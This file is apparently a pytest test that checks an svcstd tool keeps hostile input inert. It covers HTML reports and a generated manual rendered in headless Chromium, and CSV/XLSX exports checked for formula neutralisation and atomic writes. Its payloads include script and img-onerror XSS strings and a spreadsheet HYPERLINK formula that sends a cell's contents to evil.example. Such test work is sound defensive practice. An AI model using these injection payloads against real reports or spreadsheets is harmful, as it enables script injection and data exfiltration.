"""Hostile text in a spec or a record stays text: in the HTML check report and in the manual,
opened in a real browser, and in every report file (CSV/XLSX formulas neutralised, written
atomically).

The payloads set ``window.__pwned`` if they ever run. The browser is Debian's Chromium through
Playwright's driver (nothing downloaded), as in ``tests/render/test_browser.py``; pages are
opened from ``file://`` with every request outside the page recorded and refused.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from .conftest import AS_OF, ROOT, STANDARDS, svcstd

playwright_api = pytest.importorskip("playwright.sync_api")

SCRIPT = "<script>window.__pwned = 'script'</script>"
IMG = "<img src=x onerror=\"window.__pwned = 'img'\">"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: Rule titles and record fields carrying the payloads (titles are at most 90 characters).
TL1_TITLE = f"Reply {SCRIPT} to e-mail"
TL2_TITLE = f"Resolve {IMG} calls"
CASE_ID = f"E{SCRIPT}"
FIELDS = ["category", "priority", "tier", "customer", "opened_at", "attr_customer_name"]
ACTOR = f"agent {IMG}"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
]


def _need(tool: str) -> str:
    found = shutil.which(tool)
    if found:
        return found
    if os.environ.get("CI"):
        pytest.fail(f"{tool} is not installed: .ci/run must install it")
    pytest.skip(f"{tool} is not installed")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the fixture standards with payload titles, and an export with payload fields."""
    root = tmp_path_factory.mktemp("hostile")
    standards = root / "standards"
    shutil.copytree(STANDARDS, standards, ignore=shutil.ignore_patterns("*.csv"))
    handbook = standards / "2025.1" / "handbook.yaml"
    text = handbook.read_text(encoding="utf-8")
    for old, new in (
        ("title: Reply to e-mail within 24 hours", f"title: {json.dumps(TL1_TITLE)}"),
        ("title: Resolve a <b>call</b> within one business day", f"title: {json.dumps(TL2_TITLE)}"),
    ):
        assert old in text
        text = text.replace(old, new)
    handbook.write_text(text, encoding="utf-8")
    header = [*["case_id", "at", "event", "state", "actor", "group", "role", "channel"], *FIELDS]

    def row(case: str, at: str, event: str, state: str, actor: str, **fields: str) -> list[str]:
        values = {"case_id": case, "at": at, "event": event, "state": state, "actor": actor}
        return [{**values, **fields}.get(col, "") for col in header]

    rows = [
        header,
        row(CASE_ID, "2025-02-03T09:00:00+08:00", "created", "new", ACTOR, channel="email",
            opened_at="2025-02-03T09:00:00+08:00", attr_customer_name=FORMULA),
        row(CASE_ID, "2025-02-06T09:00:00+08:00", "first_response", "open", ACTOR),
        row(FORMULA, "2025-03-06T09:00:00+08:00", "created", "new", FORMULA, channel="phone",
            opened_at="2025-03-06T09:00:00+08:00", attr_customer_name=SCRIPT),
    ]  # fmt: skip
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    (root / "export.csv").write_text(out.getvalue(), encoding="utf-8")
    return root


def _report(hostile: Path, fmt: str) -> Path:
    name = f"report.{fmt}"
    run = svcstd(
        ["check", "export.csv", "--profile", "svcstd", "--standards", "standards", "--as-of",
         AS_OF, "--format", fmt, "--output", name, "--fail-on", "never", "--quiet"],
        hostile,
    )  # fmt: skip
    assert (run.exit_code, run.stderr) == (0, ""), run.stderr
    return hostile / name


@pytest.fixture(scope="module")
def site(hostile: Path) -> Path:
    """The manual built by mkdocs (with the svcstd plugin) from the hostile standards."""
    _need("dot")
    docs = hostile / "docs"
    docs.mkdir()
    shutil.copytree(ROOT / "site" / "assets", docs / "assets")
    (docs / "index.md").write_text("# Hostile handbook\n", encoding="utf-8")
    (hostile / "mkdocs.yml").write_text(
        f"INHERIT: {ROOT / 'mkdocs.yml'}\n"
        "docs_dir: docs\n"
        "site_dir: built\n"
        "plugins:\n  - search\n  - svcstd:\n      standards: standards\n"
        "nav:\n  - Home: index.md\n  - Handbook: handbook/index.md\n"
        f"watch:\n  - standards\n  - {ROOT / 'templates'}\n",
        encoding="utf-8",
    )
    proc = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-f", str(hostile / "mkdocs.yml")],
        capture_output=True,
        text=True,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        cwd=hostile,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return hostile / "built"


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    chromium = _need("chromium")
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, headless=True, args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


def _open(browser: object, path: Path) -> tuple[object, list[str]]:
    """Open a local page; record (and refuse) anything it asks from elsewhere, and dialogs."""
    context = browser.new_context()  # type: ignore[attr-defined]
    page = context.new_page()
    page.set_default_timeout(15_000)
    outside: list[str] = []

    def route(r: object) -> None:
        url = r.request.url  # type: ignore[attr-defined]
        if url.startswith(("file://", "data:")):
            r.continue_()  # type: ignore[attr-defined]
        else:
            outside.append(url)
            r.abort()  # type: ignore[attr-defined]

    page.route("**/*", route)
    page.on("dialog", lambda d: (outside.append(f"dialog: {d.message}"), d.dismiss()))
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    return page, outside


def _assert_inert(page: object, shown: list[str]) -> None:
    assert page.evaluate("typeof window.__pwned") == "undefined"  # type: ignore[attr-defined]
    text = page.locator("body").inner_text()  # type: ignore[attr-defined]
    for payload in shown:
        assert payload in text, f"{payload!r} is not shown as text"
    scripts = page.evaluate(  # type: ignore[attr-defined]
        "[...document.scripts].filter(s => s.textContent.includes('__pwned')).length"
    )
    handlers = page.evaluate("document.querySelectorAll('[onerror]').length")  # type: ignore[attr-defined]
    assert (scripts, handlers) == (0, 0)


def test_html_report_shows_spec_and_record_payloads_as_text(hostile: Path, browser: object) -> None:
    page, outside = _open(browser, _report(hostile, "html"))
    try:
        _assert_inert(page, [TL1_TITLE, TL2_TITLE, CASE_ID, ACTOR])
    finally:
        page.context.close()  # type: ignore[attr-defined]
    assert outside == []


def test_manual_page_shows_spec_payloads_as_text(site: Path, browser: object) -> None:
    page, outside = _open(browser, site / "handbook" / "time-limits" / "index.html")
    try:
        _assert_inert(page, [TL1_TITLE, TL2_TITLE])
        heading = page.locator("h3#tl-001")  # type: ignore[attr-defined]
        assert SCRIPT in heading.inner_text()
    finally:
        page.context.close()  # type: ignore[attr-defined]
    assert outside == []


def test_csv_and_xlsx_reports_neutralise_formulas(hostile: Path) -> None:
    data = _report(hostile, "csv").read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data, newline="")) for c in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA in cells and CASE_ID in cells  # HTML payloads are plain text here
    book = openpyxl.load_workbook(_report(hostile, "xlsx"))
    cells_x = [c for ws in book for row in ws.iter_rows() for c in row]
    texts = [c.value for c in cells_x if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    assert all(c.data_type != "f" for c in cells_x)


def test_a_report_write_that_fails_midway_leaves_the_old_report(hostile: Path) -> None:
    """The real CLI under a 4 KB file-size limit: writing the HTML report fails partway."""
    target = hostile / "limited.html"
    target.write_bytes(b"the previous report")
    limit = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "from svcstd.cli.main import main\n"
        "sys.argv = ['svcstd'] + sys.argv[1:]\n"
        "main()\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", limit, "check", "export.csv", "--profile", "svcstd",
         "--standards", "standards", "--as-of", AS_OF, "--format", "html",
         "--output", "limited.html", "--fail-on", "never", "--quiet"],
        capture_output=True, text=True, cwd=hostile, timeout=300, check=False,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )  # fmt: skip
    assert (proc.returncode, proc.stderr) == (
        2,
        "error: limited.html: cannot write: File too large\n",
    )
    assert target.read_bytes() == b"the previous report"
    assert not [p.name for p in hostile.iterdir() if p.name.startswith(".limited.html")]
